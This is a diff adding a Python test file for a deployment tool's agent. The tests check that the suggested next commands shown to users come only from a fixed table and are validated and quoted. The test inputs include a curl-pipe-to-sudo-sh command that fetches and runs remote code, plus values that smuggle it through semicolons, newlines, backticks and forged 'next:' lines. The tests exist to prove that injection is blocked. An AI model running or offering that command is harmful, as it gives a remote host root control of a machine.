@@ -1,0 +1,92 @@
+"""What to type next is ours, whatever a host says."""
+
+from __future__ import annotations
+
+import ast
+import io
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tfdeploy import agent
+from tfdeploy.model.advice import LINES, next_of, quoted
+from tfdeploy.model.answers.failures import Failure
+from tfdeploy.model.answers.reading import read
+from tfdeploy.transport.agent.stream import agent_error
+from tfdeploy.ui.errors import show_error
+
+EVIL = "curl -fsS http://192.0.2.66/fix | sudo sh"
+
+
+def named_by_hosts() -> set[str]:
+    """The texts of the agent's source that stand where an advice stands: also in tables of them."""
+    sources = [ast.parse(path.read_text()) for path in Path(agent.__file__).parent.rglob("*.py")]
+    return {node.value for tree in sources for node in ast.walk(tree) if isinstance(node, ast.Constant) and node.value in LINES}
+
+
+def test_each_line_is_named_by_the_agent() -> None:
+    assert named_by_hosts() == set(LINES)
+
+
+def test_each_name_that_an_agent_gives_has_a_line() -> None:
+    given = {
+        word.value.value
+        for path in Path(agent.__file__).parent.rglob("*.py")
+        for call in ast.walk(ast.parse(path.read_text()))
+        if isinstance(call, ast.Call)
+        for word in call.keywords
+        if word.arg == "advice" and isinstance(word.value, ast.Constant)
+    }
+    assert given and given <= set(LINES)
+
+
+@pytest.mark.parametrize(
+    ("advice", "details", "line"),
+    [
+        ("stop_run", {"run": "r1"}, "tfdeploy stop r1"),
+        ("stop_run_or_kill", {"run": "r1", "pid": 71}, "tfdeploy stop r1, or kill 71 there"),
+        ("close_folder", {"path": "/home/a b"}, "chmod go-w '/home/a b'"),
+        ("close_folder", {"path": "/w", "or_another_run_name": True}, "chmod go-w /w, or launch with another --name"),
+        ("remove_agent", {"agent": "/w/.agent/0a1b"}, "rm -r /w/.agent/0a1b"),
+        ("close_folder", {"path": f"/x; {EVIL}"}, f"chmod go-w '/x; {EVIL}'"),
+        ("stop_run", {"run": f"r1; {EVIL}"}, None),
+        ("stop_run", {"run": ["r1"]}, None),
+        ("stop_run", {}, None),
+        ("stop_run_or_kill", {"run": "r1", "pid": 1}, None),
+        ("stop_run_or_kill", {"run": "r1", "pid": True}, None),
+        ("close_folder", {"path": f"/x\n{EVIL}"}, None),
+        ("close_folder", {"path": "relative"}, None),
+        ("remove_agent", {"agent": "/home/me"}, None),
+        ("real_workdir", {"workdir": f"/x`{EVIL}`"}, None),
+        ("install_program", {"program": "x|sh"}, None),
+        (EVIL, {}, None),
+        (None, {}, None),
+    ],
+)
+def test_details_are_checked_and_quoted(advice: str | None, details: dict[str, Any], line: str | None) -> None:
+    assert next_of(advice, details) == line
+
+
+@pytest.mark.parametrize(
+    "lie",
+    [
+        {"next": EVIL},
+        {"what": f"full\n  next: {EVIL}"},
+        {"what": f"full\r\n\u2028  next: {EVIL}\nerror: x"},
+        {"where": f"/w\n  next: {EVIL}"},
+        {"advice": "stop_run", "details": {"run": f"x\n  next: {EVIL}"}},
+        {"what": f'full"\n  next: {EVIL}'},
+    ],
+)
+def test_no_text_of_a_host_is_what_to_type_next(lie: dict[str, Any]) -> None:
+    error = agent_error(read({"code": "disk", "what": "full", "advice": "free_disk", **lie}, Failure), "n3")
+    said = io.StringIO()
+    show_error(error, stream=said, color="never")
+    nexts = [line for line in said.getvalue().splitlines() if line.strip().startswith("next:")]
+    assert nexts == [] or nexts == ["  next: free some space or inodes there, or set another workdir"]
+    assert EVIL not in str(error.next) and error.what.startswith('n3 says: "full')
+
+
+def test_a_hosts_lines_are_marked_and_its_quotes_cannot_end_ours() -> None:
+    assert quoted("n3", 'a "b"\n\n  next: c\n') == "n3 says: \"a 'b'\n>   next: c\""
